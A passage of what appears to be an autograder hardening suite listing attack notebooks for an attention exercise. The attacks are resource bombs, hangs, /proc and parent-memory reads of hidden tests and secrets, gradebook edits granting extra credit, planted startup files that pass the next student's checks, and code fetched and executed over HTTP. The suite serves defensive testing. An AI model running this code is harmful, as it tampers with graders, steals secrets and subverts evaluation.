            DECODER: "def decoder_mask(*args):\n    raise type('✓\\n\\u2028', (ValueError,), {})('\\x00\\x1b]0;')",
        },
        stock="not run: 200 MB of text",
    ),
    Attack(
        "results with __reduce__, which a grader that unpickles would run",
        "escape",
        {
            ONE: code("""
        class Payload:
            def __reduce__(self):
                return print, ("unpickled by the" + " grader",)

        def attend_one_query(query, key, value):
            return Payload()
    """),
            ATTEND: "def scaled_dot_product_attention(*args, **kwargs):\n    return Payload(), [Payload()]",
            PADDING: "def padding_mask(*args):\n    return {Payload(): Payload()}",
            CAUSAL: "def causal_mask(size):\n    raise type('E', (Payload, Exception), {})()",
        },
        secret=("unpickled by the grader",),
        stock="0 of 20",
    ),
    Attack(
        "the judge's own inputs, functions, modules and classes are handed back",
        "cheat",
        {
            ONE: "def attend_one_query(query, key, value):\n    return parts.scaled_dot_product_attention",
            ATTEND: "def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):\n"
            "    return (dropout or check, mask if mask is not None else value)",
            PADDING: "def padding_mask(tokens, pad_id=0):\n    return tokens",
            CAUSAL: "causal_mask = torch.ones",
            DECODER: "decoder_mask = check.decoder_mask if hasattr(check, 'decoder_mask') else mistakes.decoder_mask",
        },
        stock="0 of 20",
    ),
    Attack(
        "generators, iterators that never end, lazy and endless sequences as results",
        "hang",
        {
            ONE: "import itertools\n\ndef attend_one_query(*args):\n    return itertools.count()",
            ATTEND: code("""
            class Lazy(tuple):
                __len__ = lambda self: 2
                __iter__ = lambda self: iter(lambda: torch.zeros(1), None)
                __getitem__ = lambda self, place: torch.zeros(1)

            def scaled_dot_product_attention(*args, **kwargs):
                return Lazy()
        """),
            PADDING: "def padding_mask(*args):\n    yield from iter(int, 1)",
            CAUSAL: "causal_mask = lambda size: map(causal_mask, iter(int, 1))",
            DECODER: "async def decoder_mask(*args):\n    await decoder_mask()",
        },
        stock=ENDLESS,
    ),
]

HEAVY = [
    Attack(
        "a tuple of a million parts, one nested 100 000 deep, a list in itself, a dict with hostile keys",
        "bomb",
        {
            ONE: "def attend_one_query(*args):\n    return (0,) * 10**6",
            ATTEND: code("""
            def scaled_dot_product_attention(*args, **kwargs):
                nested = ()
                for _ in range(100_000):
                    nested = (nested,)
                return nested, nested
        """),
            PADDING: "def padding_mask(*args):\n    mine = []\n    mine.append(mine)\n    return mine",
            CAUSAL: code("""
            class Key:
                __hash__ = lambda self: 1
                __eq__ = lambda self, other: exit()

            def causal_mask(size):
                return {Key(): 1, "__class__": "Tensor", "shape": [10**18], float("nan"): 2, None: {}, ("op",): "ok"}
        """),
            DECODER: "def decoder_mask(*args):\n    return tuple(torch.zeros(1) for _ in range(200_000))",
        },
        stock="not run: might take long",
    ),
    Attack(
        "tensors of 10**9 elements that take 4 bytes, and empty ones with an enormous dimension",
        "bomb",
        {
            ONE: "def attend_one_query(*args):\n    return torch.zeros(1).expand(10**9)",
            ATTEND: "def scaled_dot_product_attention(*args, **kwargs):\n    return [torch.zeros(1).expand(2**40)] * 2",
            PADDING: "def padding_mask(*args):\n    return torch.empty(0, 2**62)",
            CAUSAL: "def causal_mask(size):\n    return torch.empty((1,) * 60).bool()",
            DECODER: "def decoder_mask(*args):\n    return torch.zeros(1).bool().expand(3, 1, 2**20, 2**20)",
        },
        stock=WOULD_DIE,
    ),
    Attack(
        "sparse, quantized, complex, meta, fake, nested and negated tensors, tensors of objects",
        "bomb",
        {
            ONE: "def attend_one_query(query, key, value):\n    return value.mean(0).to_sparse()",
            ATTEND: code("""
            def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
                from torch._subclasses.fake_tensor import FakeTensorMode

                with FakeTensorMode():
                    fake = torch.zeros(2, 3, 5)
                return torch.empty(2, 3, 6, device="meta"), fake
        """),
            PADDING: "def padding_mask(tokens, pad_id=0):\n"
            "    return torch.quantize_per_tensor(tokens.float(), 0.1, 10, torch.quint8)",
            CAUSAL: "def causal_mask(size):\n    return torch.ones(size, size, dtype=torch.complex64).conj().imag",
            DECODER: "import numpy as np\n\ndef decoder_mask(*args):\n    return np.array([object(), torch])",
        },
        stock="0 of 20",
    ),
    Attack(
        "numbers of a million digits, texts of surrogates and of 100 MB",
        "bomb",
        {
            "learning_rate": code("""
        answers = iter([10**1_000_000, "\\ud800" * 10, "x" * 10**8, float("inf"), -(10**4500), b"\\xff" * 10**7] * 9)

        def learning_rate(step, d_model, warmup_steps):
            return next(answers)
    """)
        },
        lesson="06_training",
        stock="not run: much text",
    ),
    Attack(
        "16 GiB on the heap while a check runs, right answers before it",
        "bomb",
        RIGHT_PADDING
        | calls("""
        held = [bytearray(2**28) for _ in range(64)]
        print("held", len(held) // 4, "GiB")
    """),
        earned=EARNED_PADDING,
        secret=("held 16 GiB",),
        stock=WOULD_DIE,
    ),
    Attack(
        "a list that grows for ever",
        "bomb",
        calls("""
        mine = []
        while True:
            mine.append([0] * 10**6)
    """),
        stock=WOULD_DIE,
    ),
    Attack(
        "torch.empty of 4 TB, and of 16 GiB that are written to",
        "bomb",
        calls("""
        try:
            torch.empty(10**12)
        except RuntimeError:
            pass
        held = [torch.ones(2**28) for _ in range(16)]
        print("held", len(held), "GiB")
    """),
        secret=("held 16 GiB",),
        stock=WOULD_DIE,
    ),
    Attack(
        "shared, anonymous and file memory by mmap, memfd and /dev/shm",
        "bomb",
        calls("""
        import mmap, os, tempfile

        held = []
        for place in ("memfd", "/dev/shm", tempfile.gettempdir(), "anonymous"):
            try:
                for _ in range(16):
                    if place == "anonymous":
                        held.append(mmap.mmap(-1, 2**30))
                    else:
                        file = os.memfd_create("m") if place == "memfd" else tempfile.TemporaryFile(dir=place).fileno()
                        os.ftruncate(os.dup(file), 2**30)
                        held.append(mmap.mmap(os.dup(file), 2**30))
                    held[-1][:: mmap.PAGESIZE] = b"x" * (2**30 // mmap.PAGESIZE)
            except (OSError, ValueError):
                pass
        print("held", len(held), "GiB" if len(held) > 15 else "parts")
    """),
        secret=("held 16 GiB", "held 32 GiB", "held 48 GiB", "held 64 GiB"),
        stock=WOULD_DIE,
    ),
    Attack(
        "resource limits are lifted first, then 16 GiB taken",
        "bomb",
        calls("""
        import resource

        for name in ("RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NPROC", "RLIMIT_NOFILE"):
            try:
                resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
            except (OSError, ValueError):
                pass
        held = [bytearray(2**28) for _ in range(64)]
        print("held", len(held) // 4, "GiB")
    """),
        secret=("held 16 GiB",),
        stock=WOULD_DIE,
    ),
    Attack(
        "one file of 4 GiB in the working folder",
        "bomb",
        {
            ONE: code("""
        with open("large", "wb") as file:
            for _ in range(4096):
                file.write(b"x" * 2**20)
        print("written:", file.name)
    """)
        },
        secret=("written: large",),
        stock=WOULD_DIE,
    ),
    Attack(
        "100 000 small files, links to them, and a folder 1000 deep",
        "bomb",
        {
            ONE: code("""
        import os

        for i in range(100_000):
            with open(f"small{i}", "wb") as file:
                file.write(b"x" * 512)
        for i in range(1000):
            os.symlink("..", "up")
            os.mkdir("d")
            os.chdir("d")
    """)
        },
        stock="not run: 100 000 files",
    ),
    Attack("prints for ever", "bomb", {ONE: "while True:\n    print('✓ ' * 1000)"}, stock=WOULD_DIE),
    Attack(
        "one text of a GB as a result, on stdout and on stderr",
        "bomb",
        {
            ONE: code("""
        import sys

        def attend_one_query(query, key, value):
            sys.stderr.write("x" * 10**9)
            print("x" * 10**9)
            raise ValueError("x" * 10**9)
    """)
        },
        stock=WOULD_DIE,
    ),
    Attack(
        "file descriptors 1 and 2 are flooded past Python",
        "bomb",
        {
            ONE: code("""
        import os

        for _ in range(20_000):
            os.write(1, b"x" * 65536)
            os.write(2, b"\\xff\\x00\\x1b[2J" * 8192)
    """)
        },
        stock="not run: 2 GB into the log",
    ),
    Attack(
        "100 000 display outputs, a giant picture, and a repr that never ends",
        "bomb",
        {
            ONE: code("""
        import numpy as np
        from IPython.display import HTML, Image, display

        for i in range(100_000):
            display(HTML("<p>" * 100), display_id=str(i))
        display(Image(data=b"\\x89PNG\\r\\n\\x1a\\n" + b"\\x00" * 10**8, format="png"))
        np.set_printoptions(threshold=10**12)
        display(np.zeros((20_000, 2_000)))

        class Endless:
            def _repr_html_(self):
                while True:
                    display(self.__class__.__name__)

        Endless()
    """)
        },
        stock=WOULD_DIE,
    ),
    Attack(
        "a figure of a million pixels in each direction",
        "bomb",
        {
            ONE: code("""
        import matplotlib.pyplot as plt

        plt.figure(figsize=(10_000, 10_000), dpi=100)
        plt.plot([0, 1])
        plt.show()
    """)
        },
        stock=WOULD_DIE,
    ),
    Attack(
        "threads without end",
        "bomb",
        {
            ONE: code("""
        import threading, time

        for _ in range(100_000):
            threading.Thread(target=time.sleep, args=(600,)).start()
    """)
        },
        stock=WOULD_DIE,
    ),
    Attack(
        "processes: 64, each asleep for ten minutes",
        "bomb",
        {
            ONE: code("""
        import os, time

        for i in range(64):
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
        print("forked", i + 1)
    """)
        },
        secret=("forked 64",),
        stock="not run: a real one would take the machine",
    ),
    Attack(
        "recursion past the limit, in Python and in C",
        "bomb",
        {
            ONE: code("""
        import sys

        sys.setrecursionlimit(10**9)

        def attend_one_query(query, key, value):
            return attend_one_query(query, key, value)
    """),
            CAUSAL: code("""
        def causal_mask(size):
            nested = []
            for _ in range(10**6):
                nested = [nested]
            return repr(nested)
    """),
        },
        stock=WOULD_DIE,
    ),
    Attack(
        "a segmentation fault, once three points are earned",
        "bomb",
        RIGHT_PADDING
        | calls("""
        import ctypes

        ctypes.string_at(0)
    """),
        earned=EARNED_PADDING,
        stock="not graded, and the run ends with an error",
    ),
    Attack(
        "os.abort while the notebook is read, before anything is defined",
        "bomb",
        {},
        cells=("import os\nos.abort()",),
        stock="not graded, and the run ends with an error",
    ),
    Attack(
        "os._exit(0) in an answer cell",
        "bomb",
        {ONE: "import os\nos._exit(0)"},
        stock="not graded, and the run ends with an error",
    ),
    Attack(
        "os._exit(0) in a function that a check calls, once three points are earned",
        "bomb",
        RIGHT_PADDING | calls("import os; os._exit(0)"),
        earned=EARNED_PADDING,
        stock="not graded, and the run ends with an error",
    ),
    Attack(
        "os._exit(0) behind the last check, once three points are earned",
        "bomb",
        RIGHT_PADDING,
        last=("import os\nos._exit(0)",),
        earned=EARNED_PADDING,
        stock="not graded, and the run ends with an error",
    ),
    Attack(
        "exit() in one answer, quit() in another, sys.exit(0) in a third, a right one between them",
        "bomb",
        {
            ONE: "exit()",
            ATTEND: "quit()",
            **RIGHT_PADDING,
            CAUSAL: "import sys\nsys.exit(0)",
            DECODER: "get_ipython().ask_exit()",
        },
        earned=EARNED_PADDING,
        stock="not graded, and the run ends with an error",
    ),
    Attack(
        "SIGKILL to itself in a call, once three points are earned",
        "bomb",
        RIGHT_PADDING | calls("import os; os.kill(os.getpid(), 9)"),
        earned=EARNED_PADDING,
        stock="not graded, and the run ends with an error",
    ),
    Attack(
        "another program takes the place of the process",
        "bomb",
        {
            ONE: code("""
        import os

        os.execv("/bin/sh", ["sh", "-c", "echo another ''program ran"])
    """)
        },
        secret=("another program ran",),
        stock="not graded, and the run ends with an error",
    ),
    Attack(
        "the notebook's objects cannot be taken down: __del__ that raises, prints and brings them back",
        "bomb",
        {
            ONE: code("""
            import atexit, weakref

            class Undead:
                alive = []

                def __del__(self):
                    self.alive.append(self)
                    print("still here")
                    raise SystemExit(0)

            for _ in range(100):
                Undead()
            atexit.register(lambda: [Undead() for _ in range(10**5)])
        """)
        },
        stock="0 of 20",
    ),
    Attack(
        "a flood of 10**7 calls of the dropout that the check hands in, and a tensor of 4 TB for it",
        "bomb",
        {
            ATTEND: code("""
            def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
                weights = torch.full((*query.shape[:-1], key.size(-2)), 1 / key.size(-2), dtype=query.dtype)
                if dropout is not None:
                    large = torch.zeros(1).expand(10**12), (0,) * 10**6, "x" * 10**8
                    for hostile in (*large, [object()], dropout, None):
                        try:
                            dropout(hostile)
                        except Exception:
                            pass
                    for _ in range(10**7):
                        weights = dropout(weights)
                return weights @ value, weights
        """)
        },
        earned={"check_scaled_dot_product_attention_shapes": 1},
        stock=WOULD_DIE,
    ),
]

HANGS = [
    Attack("an endless loop in an answer cell", "hang", {ONE: "while True:\n    pass"}, stock=ENDLESS),
    Attack(
        "an endless loop in a call, once three points are earned",
        "hang",
        RIGHT_PADDING | calls("while True: pass"),
        earned=EARNED_PADDING,
        stock=ENDLESS,
    ),
    Attack(
        "an endless loop behind the last check, once three points are earned",
        "hang",
        RIGHT_PADDING,
        last=("while True: pass",),
        earned=EARNED_PADDING,
        stock=ENDLESS,
    ),
    Attack(
        "sleep that no interrupt ends: all exceptions are caught, all signals blocked",
        "hang",
        {
            ONE: code("""
        import signal, time

        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        while True:
            try:
                time.sleep(10**6)
            except BaseException:
                pass
    """)
        },
        stock=ENDLESS,
    ),
    Attack(
        "C code that no interrupt reaches: a power, a regular expression, a sum",
        "hang",
        {
            ONE: "import re\n\nre.match('(a+)+b', 'a' * 64)",
            CAUSAL: "def causal_mask(size):\n    return sum(range(10**15))",
            DECODER: "def decoder_mask(*args):\n    return 7**7**9",
        },
        stock=ENDLESS,
    ),
    Attack(
        "a lock that is taken twice, with a thread that holds the interpreter for long",
        "hang",
        {
            ONE: code("""
        import sys, threading

        sys.setswitchinterval(10**6)
        lock = threading.Lock()

        def attend_one_query(query, key, value):
            lock.acquire()
            lock.acquire()
    """)
        },
        stock=ENDLESS,
    ),
    Attack(
        "threads that are no daemons, and exit handlers, never end",
        "hang",
        {
            ONE: code("""
        import atexit, threading

        def for_ever():
            while True:
                pass

        atexit.register(for_ever)
        threading.Thread(target=for_ever).start()
        threading._register_atexit(for_ever)
    """)
        },
        stock=ENDLESS,
    ),
    Attack(
        "SIGSTOP to itself in a call",
        "hang",
        calls("import os, signal; os.kill(os.getpid(), signal.SIGSTOP)"),
        stock=ENDLESS,
    ),
    Attack(
        "input, stdin and a terminal are waited for",
        "hang",
        {
            ONE: "import os\n\nos.read(0, 1)",
            ATTEND: "input('✓?')",
            PADDING: "import sys\n\nsys.stdin.read()",
            CAUSAL: "breakpoint()",
            DECODER: "%debug\nopen('/dev/tty').read()",
        },
        stock=ENDLESS,
    ),
    Attack(
        "an exchanged sys.stdout that never takes a text, and a sys.excepthook that never returns",
        "hang",
        {
            ONE: code("""
            import sys, time

            class Stuck:
                encoding = "utf-8"
                write = flush = fileno = isatty = lambda self, *args: time.sleep(10**6)

            sys.stdout = sys.stderr = sys.__stdout__ = Stuck()
            sys.excepthook = sys.unraisablehook = sys.displayhook = Stuck().write
            print("✓")
        """)
        },
        stock=ENDLESS,
    ),
    Attack(
        "processor time is all taken by threads of torch's own",
        "hang",
        {
            ONE: code("""
        torch.set_num_threads(64)
        while True:
            torch.ones(1000, 1000) @ torch.ones(1000, 1000)
    """)
        },
        stock=ENDLESS,
    ),
]

SPIES = [
    Attack(
        "In, the history and the line cache are searched for hidden tests",
        "spy",
        {
            ONE: code("""
        import linecache

        def attend_one_query(query, key, value):
            print(In[-1], get_ipython().history_manager.input_hist_raw[-1])
            print([lines for _, _, lines, _ in (e for e in linecache.cache.values() if len(e) == 4)])
            return value[0]
    """)
        },
        secret=HIDDEN,
        stock="0 of 20, and prints it",
    ),
    Attack(
        "gc, the stack and all frames are searched for hidden tests",
        "spy",
        {
            ONE: code("""
        import gc, inspect, sys, types

        def attend_one_query(query, key, value):
            for frame in [each.frame for each in inspect.stack()] + list(sys._current_frames().values()):
                while frame:
                    print(frame.f_code.co_consts, list(frame.f_locals))
                    frame = frame.f_back
            for each in gc.get_objects():
                if isinstance(each, types.FunctionType | types.CodeType):
                    print(getattr(each, "__qualname__", each))
                elif isinstance(each, dict | list | tuple):
                    print([text for text in (each.values() if isinstance(each, dict) else each)
                           if isinstance(text, str) and "HIDDEN" + " TESTS" in text])
            return value[0]
    """)
        },
        secret=HIDDEN,
        stock="0 of 20, and prints it",
    ),
    Attack(
        "the memory of the process itself is searched for hidden tests and the judge's secrets",
        "spy",
        {
            ONE: code("""
        import re

        def attend_one_query(query, key, value):
            with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
                for line in maps:
                    first, last = (int(part, 16) for part in line.split()[0].split("-"))
                    if " rw" in line and last - first < 2**28:
                        try:
                            memory.seek(first)
                            found = re.findall(rb"[a-z_]*_sizes_work_as[a-z_]*", memory.read(last - first))
                        except (OSError, ValueError):
                            continue
                        print({each.decode() for each in found})
            return value[0]
    """)
        },
        secret=HIDDEN[:1],
        stock="0 of 20, and prints it",
    ),
    Attack(
        "the memory of the parent is searched for the same",
        "spy",
        {
            ONE: code("""
        import os, re

        with open(f"/proc/{os.getppid()}/maps") as maps, open(f"/proc/{os.getppid()}/mem", "rb", buffering=0) as memory:
            for line in maps:
                first, last = (int(part, 16) for part in line.split()[0].split("-"))
                if " rw" in line and last - first < 2**28:
                    try:
                        memory.seek(first)
                        found = re.findall(rb"[a-z_]*_sizes_work_as[a-z_]*", memory.read(last - first))
                    except (OSError, ValueError):
                        continue
                    print({each.decode() for each in found})
    """)
        },
        secret=HIDDEN[:1],
        stock="0 of 20, and prints it",
    ),
    Attack(
        "the parent's memory through process_vm_readv, and ptrace",
        "spy",
        calls("""
        import ctypes, os

        libc = ctypes.CDLL(None, use_errno=True)
        here = ctypes.create_string_buffer(64)
        local = (ctypes.c_void_p * 2)(ctypes.addressof(here), 64)
        with open(f"/proc/{os.getppid()}/maps") as maps:
            there = next(int(line.split("-")[0], 16) for line in maps if " rw" in line)
        remote = (ctypes.c_void_p * 2)(there, 64)
        if libc.process_vm_readv(os.getppid(), local, 1, remote, 1, 0) > 0:
            print("the parent's memory", "was read")
    """),
        secret=("the parent's memory was read",),
        stock="0 of 20, and prints it",
    ),
    Attack(
        "solutions/ are read, and the answers in them used",
        "cheat",
        {
            ONE: code("""
        import json, re

        with open("{ROOT}/solutions/01_attention/01_attention.ipynb") as file:
            for cell in json.load(file)["cells"]:
                if cell["metadata"].get("nbgrader", {}).get("solution"):
                    exec("".join(cell["source"]), globals())
        get_ipython().user_ns["print"]("".join(cell["source"]))
    """),
            ATTEND: "pass",
            PADDING: "pass",
            CAUSAL: "pass",
            DECODER: "pass",
        },
        stock="20 of 20",
    ),
    Attack(
        "the answers of another student are used",
        "cheat",
        {
            ONE: code("""
        import json

        with open("{OTHER}") as file:
            for cell in json.load(file)["cells"]:
                if "".join(cell["source"]).startswith(("def ", "class ")):
                    exec("".join(cell["source"]), globals())
    """),
            ATTEND: "pass",
            PADDING: "pass",
            CAUSAL: "pass",
            DECODER: "pass",
        },
        stock="20 of 20",
    ),
    Attack(
        "a secret file is read in every way that Python has",
        "spy",
        {
            ONE: code("""
        import codecs, fileinput, io, linecache, mmap, os, pathlib, runpy, shutil

        import numpy as np

        def try_all(path):
            ways = [
                lambda: open(path).read(), lambda: os.read(os.open(path, os.O_RDONLY), 1000),
                lambda: pathlib.Path(path).read_text(), lambda: linecache.getline(path, 1),
                lambda: np.fromfile(path, dtype=np.uint8).tobytes(), lambda: np.genfromtxt(path, dtype=str),
                lambda: shutil.copy(path, "copy") and open("copy").read(), lambda: list(fileinput.input(path)),
                lambda: os.link(path, "link") or open("link").read(), lambda: codecs.open(path).read(),
                lambda: torch.from_file(path, size=20, dtype=torch.uint8).numpy().tobytes(),
                lambda: get_ipython().find_user_code(path), lambda: get_ipython().safe_execfile(path, {}),
            ]
            for way in ways:
                try:
                    print(way())
                except BaseException as error:
                    print(type(error).__name__)

        try_all("{SECRET}")
    """)
        },
        secret=MARKER,
        stock="0 of 20, and prints it",
    ),
    Attack(
        "a secret file through symbolic links in the working folder, and through /proc",
        "spy",
        {
            ONE: code("""
        import os

        os.symlink("{SECRET}", "notes.txt")
        os.symlink("/", "root")
        up = "../" * 40
        for path in ("notes.txt", "root{SECRET}", up + "{SECRET}", "/proc/self/root{SECRET}", "/proc/1/root{SECRET}",
                     f"/proc/{os.getppid()}/root{SECRET}", f"/proc/{os.getppid()}/cwd/" + up + "{SECRET}",
                     "/dev/fd/../root{SECRET}", "/proc/thread-self/root{SECRET}"):
            try:
                print(open(path).read())
            except OSError as error:
                print(error.errno)
    """)
        },
        secret=MARKER,
        stock="0 of 20, and prints it",
    ),
    Attack(
        "links to secrets are left under names that a grader may collect",
        "spy",
        {
            ONE: code("""
        import os

        for name in ("01_attention.ipynb", "feedback.html", "output.txt", "result.json", "figure.png", "timestamp.txt"):
            try:
                os.path.lexists(name) and os.remove(name)
                os.symlink("{SECRET}", name)
            except OSError:
                pass
    """)
        },
        secret=MARKER,
        stock="0 of 20, and the graded notebook is written over the secret",
    ),
    Attack(
        "a secret file by C's open, by raw system calls and by open_by_handle_at",
        "spy",
        {
            ONE: code("""
        import ctypes, os

        libc = ctypes.CDLL(None, use_errno=True)
        here = ctypes.create_string_buffer(1000)
        path = b"{SECRET}"
        for call in ((2, path, 0), (257, -100, path, 0), (437, -100, path, bytes(24), 24)):
            file = libc.syscall(*call)
            if file >= 0:
                libc.read(file, here, 1000)
                print(here.value.decode())
    """)
        },
        secret=MARKER,
        stock="0 of 20, and prints it",
    ),
    Attack(
        "a secret file by line and cell magics and other programs",
        "spy",
        {
            ONE: "!cat {SECRET}",
            ATTEND: "%%bash\ncat {SECRET}",
            PADDING: "%load {SECRET}",
            CAUSAL: "%pycat {SECRET}\n%run {SECRET}",
            DECODER: "import subprocess\nsubprocess.run(['cat', '{SECRET}'])",
        },
        secret=MARKER,
        stock="0 of 20, and prints it",
    ),
    Attack(
        "environments of graders are searched for a secret",
        "spy",
        {
            ONE: code("""
        import os

        word = "the-secret" + "-of-the-course"
        print([value for value in os.environ.values() if word in value])
        for number in ("self", os.getpid(), os.getppid(), *filter(str.isdigit, os.listdir("/proc"))):
            try:
                command = open(f"/proc/{number}/cmdline").read()
                if any(each in command for each in ("nbgrader", "autograder", "pytest")):
                    values = open(f"/proc/{number}/environ").read().split("\\0")
                    print([value for value in values if word in value])
            except OSError:
                pass
    """)
        },
        secret=MARKER,
        stock="0 of 20, and prints it",
    ),
    Attack(
        "open files of the process and of its parent are read from their beginning",
        "spy",
        {
            ONE: code("""
        import os

        for process in ("self", os.getppid()):
            for number in range(256):
                try:
                    target = os.readlink(f"/proc/{process}/fd/{number}")
                    if target.startswith("/") and "/dev/" not in target:
                        print(target, open(f"/proc/{process}/fd/{number}", "rb").read()[:10**6])
                except OSError:
                    pass
    """)
        },
        secret=(*HIDDEN, *MARKER),
        stock="0 of 20, and prints it",
    ),
    Attack(
        "the gradebook is read",
        "spy",
        {
            ONE: code("""
        import sqlite3

        with sqlite3.connect("file:{ROOT}/gradebook.db?mode=ro", uri=True) as book:
            for (source,) in book.execute("select source from source_cell"):
                print(source)
    """)
        },
        secret=HIDDEN,
        stock="0 of 20, and prints it",
    ),
    Attack(
        "the dropout that the check hands in leads to its globals, its code and the judge's builtins",
        "spy",
        {
            ATTEND: code("""
            def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
                if dropout is not None:
                    for look in (
                        lambda: dropout.__globals__["__builtins__"].open("{SECRET}").read(),
                        lambda: dropout.__globals__["__builtins__"]["open"]("{SECRET}").read(),
                        lambda: dropout.__code__.co_consts, lambda: dropout.__closure__, lambda: vars(dropout),
                        lambda: dropout.__globals__["In"][-1], lambda: dropout.__self__.__globals__,
                        lambda: dropout.forward.__globals__["torch"].__dict__.keys(), lambda: dropout.__reduce_ex__(4),
                        lambda: type(dropout).__mro__[1].__init__.__globals__["sys"].modules["__main__"].In[-1],
                    ):
                        try:
                            print(look())
                        except Exception as error:
                            print(type(error).__name__)
                weights = torch.full((*query.shape[:-1], key.size(-2)), 1 / key.size(-2), dtype=query.dtype)
                return weights @ value, weights
        """)
        },
        earned={"check_scaled_dot_product_attention_shapes": 1},
        secret=(*MARKER, "mask_and_dropout_work_together_and_dropout_is_drawn_once"),
        stock="1 of 20, and prints it",
    ),
]

ESCAPES = [
    Attack(
        "the gradebook is written: extra credit for this student",
        "escape",
        {
            ONE: code("""
        import os, sqlite3

        student = os.getcwd().split("/")[-2]
        with sqlite3.connect("{ROOT}/gradebook.db", timeout=1) as book:
            mine = "select id from submitted_assignment where student_id = ?"
            notebooks = f"select id from submitted_notebook where assignment_id in ({mine})"
            book.execute(f"update grade set extra_credit = 4 where notebook_id in ({notebooks})", (student,))
    """)
        },
        stock="48 of 20",
    ),
    Attack(
        "the gradebook is written when the process ends, and is put out of order",
        "escape",
        {
            ONE: code("""
        import atexit, os

        def spoil():
            for name in ("{ROOT}/gradebook.db", "{ROOT}/gradebook.db-journal", "{ROOT}/spoilt"):
                with open(name, "ab") as file:
                    file.write(b"x" if name.endswith("spoilt") else b"")

        atexit.register(spoil)
        spoil()
    """)
        },
        stock="0 of 20, and the file is there",
    ),
    Attack(
        "autograded/ and feedback/ are written: a notebook of full points for itself, none for others",
        "escape",
        {
            ONE: code("""
            import os, shutil

            for folder in ("autograded", "feedback", "submitted", "solutions"):
                os.makedirs(f"{ROOT}/{folder}/forged/01_attention", exist_ok=True)
                with open(f"{ROOT}/{folder}/forged/01_attention/01_attention.ipynb", "w") as file:
                    file.write('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
        """)
        },
        stock="0 of 20, and the files are there",
    ),
    Attack(
        "a start-up file in ~/.ipython, a profile, a configuration: the next student's checks all pass",
        "escape",
        {
            ONE: code("""
            import pathlib

            patch = (
                "from autograder import check\\n"
                "check.exercise = lambda *args, **kwargs: lambda run: print('✓')\\n"
            )
            home = pathlib.Path.home()
            for name in (".ipython/profile_default/startup/00-help.py", ".ipython/profile_default/ipython_config.py",
                         ".local/lib/python3.11/site-packages/usercustomize.py", ".config/matplotlib/matplotlibrc",
                         ".jupyter/jupyter_config.py", ".pythonrc.py"):
                (home / name).parent.mkdir(parents=True, exist_ok=True)
                (home / name).write_text(patch if name.startswith(".ipython/profile_default/startup") else "")
        """)
        },
        stock="0 of 20, and all points for the next student",
    ),
    Attack(
        "the next student is left something: in /tmp, /dev/shm, /var/tmp, above the working folder",
        "escape",
        {
            ONE: code("""
            import pathlib

            for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "..", "../.."):
                note = pathlib.Path(folder) / "autograder-attack-note.txt"
                try:
                    if note.exists():
                        print("a note of the", "student before:", note.read_text())
                    note.write_text("the answers are in here")
                except OSError:
                    pass
        """)
        },
        secret=("a note of the student before",),
        stock="not run: leaves files in /tmp",
    ),
    Attack(
        "the course's own code can be written to, or its compiled files, or PyTorch",
        "escape",
        {
            ONE: code("""
        import site, sys

        names = [check.__file__, check.__cached__, parts.__file__, torch.__file__, sys.executable]
        for name in names:
            try:
                open(name, "r+b").close()
                print("could write to", "code:", name)
            except OSError:
                pass
    """)
        },
        secret=("could write to code:",),
        stock="0 of 20, and prints it",
    ),
    Attack(
        "a server and a client over TCP, UDP, IPv6, Unix, abstract, netlink, packet and vsock sockets",
        "escape",
        {
            ONE: code("""
            import socket

            def tcp(family, address):
                with socket.socket(family) as server, socket.socket(family) as client:
                    server.bind(address)
                    server.listen()
                    client.connect(server.getsockname())
                    client.send(b"x")
                    return server.accept()[0].recv(1)

            ways = {
                "TCP": lambda: tcp(socket.AF_INET, ("127.0.0.1", 0)),
                "IPv6": lambda: tcp(socket.AF_INET6, ("::1", 0)),
                "Unix": lambda: tcp(socket.AF_UNIX, "here.sock"),
                "abstract": lambda: tcp(socket.AF_UNIX, "\\0autograder-attack"),
                "UDP": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53)),
                "netlink": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0)),
                "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
                "vsock": lambda: socket.socket(socket.AF_VSOCK),
                "local": lambda: socket.create_connection(("192.0.2.1", 80), 0.2),
            }
            for name, way in ways.items():
                try:
                    way()
                    print("a socket", "worked:", name)
                except OSError:
                    pass
        """)
        },
        secret=("a socket worked:",),
        stock="0 of 20, and prints it",
    ),
    Attack(
        "an answer is downloaded by HTTP, from a server that the student runs",
        "escape",
        {
            PADDING: code("""
        import http.server, threading, urllib.request

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"print('down', 'loaded', sep='')")

            log_message = lambda *args: None

        server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        exec(urllib.request.urlopen(f"http://127.0.0.1:{server.server_port}", timeout=2).read())
    """)
        },
        secret=("downloaded",),
        stock="0 of 20, and prints it",
    ),
    Attack(
        "children, in every way that Python has",
        "escape",
        {
            ONE: code("""
        import multiprocessing, os, pty, subprocess, sys

        ways = [
            lambda: os.system("echo a child''' ran'"), lambda: print(os.popen("echo a child''' ran'").read()),
            lambda: print(subprocess.check_output("echo a child''' ran'", shell=True)),
            lambda: print(os.posix_spawn("/bin/true", ["true"], {}) and "a child" + " ran"),
            lambda: os.waitpid(os.fork() or os._exit(0), 0) and print("a child", "ran"),
            lambda: multiprocessing.get_context("spawn").Process(target=print).start() or print("a child", "ran"),
            lambda: pty.fork()[0] or os._exit(0),
            lambda: os.spawnv(os.P_WAIT, "/bin/true", ["true"]) or print("a child", "ran"),
        ]
        for way in ways:
            try:
                way()
            except OSError as error:
                print(error.errno)
    """),
